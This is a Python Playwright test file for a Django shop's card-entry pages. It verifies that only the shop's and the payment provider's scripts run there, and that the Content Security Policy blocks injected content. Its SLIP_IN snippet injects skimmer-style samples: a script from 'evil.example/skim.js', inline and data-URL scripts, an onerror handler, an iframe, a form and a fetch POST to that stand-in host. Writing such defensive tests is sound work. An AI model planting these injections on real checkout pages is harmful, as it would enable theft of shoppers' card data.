"""What runs on the pages where cards are entered: our scripts and the provider's, and nothing that was slipped in."""

from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from playwright.sync_api import Page, expect

from tests.journeys import shopper
from tests.journeys.live import until
from tests.journeys.states.cards import ADD_PAGE, log_in
from tests.journeys.states.orders import be_about_to_pay
from tests.journeys.states.pages import arrive
from tests.journeys.store.running_store import RunningStore
from tests.journeys.visitors import Complaints

INVENTORY = """() => [...document.scripts]
    .filter(({ type }) => !type.endsWith('json'))
    .map(({ src, textContent }) => ({ origin: src && new URL(src).origin, text: textContent }))"""
SLIP_IN = """(kind) => {
    window.violated = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
    const script = document.createElement('script');
    if (kind === 'inline') script.textContent = 'window.stolen = true';
    if (kind === 'elsewhere') script.src = 'https://evil.example/skim.js';
    if (kind === 'data') script.src = 'data:text/javascript,window.stolen=true';
    if (kind === 'handler') {
        document.body.insertAdjacentHTML('beforeend', '<img src="/no-such-picture" onerror="window.stolen = true">');
    } else if (kind === 'frame') {
        document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>');
    } else if (kind === 'form') {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
    } else if (kind === 'call') {
        fetch('https://evil.example/', { method: 'POST' }).catch(() => {});
    } else {
        document.body.append(script);
    }
}"""
KINDS = {
    "inline": "script-src-elem",
    "elsewhere": "script-src-elem",
    "data": "script-src-elem",
    "handler": "script-src-attr",
    "frame": "frame-src",
    "form": "form-action",
    "call": "connect-src",
}
"""What is slipped in, and the rule of the page's policy that keeps it from working."""


def at_checkout(page: Page) -> None:
    shopper.add(page)
    arrive(page, "/checkout/")


def at_blocks(page: Page) -> None:
    shopper.add(page)
    arrive(page, "/checkout/block/")


def at_adding_a_card(page: Page) -> None:
    log_in(page, ADD_PAGE)


PLACES = {
    "checkout": at_checkout,
    "block checkout": at_blocks,
    "order-pay": be_about_to_pay,
    "adding a card": at_adding_a_card,
}


@pytest.mark.parametrize("place", PLACES)
def test_only_known_scripts_run_where_cards_are_entered(
    page: Page, store: RunningStore, complaints: Complaints, place: str
) -> None:
    PLACES[place](page)
    expect(shopper.card_fields(page).get_by_label("Card number")).to_be_visible()
    ours, provider = store.url, _origin(page.locator("iframe[src*='/sandbox/element']").get_attribute("src") or "")
    scripts = page.evaluate(INVENTORY)
    assert {script["origin"] for script in scripts} == {"", ours, provider}
    templates = Path(settings.BASE_DIR, "vintner/web/templates/web")
    inline = [(templates / name).read_text() for name in ("early.js", "arrival.js", "speculation.json", "start.js")]
    assert [script["text"] for script in scripts if not script["origin"]] == inline
    complaints.expected += ["Content Security Policy", "net::ERR_", "404"]
    for kind, rule in KINDS.items():
        page.evaluate(SLIP_IN, kind)
        until(page, f"violated.includes('{rule}')")
    assert page.evaluate("window.stolen") is None


def _origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"
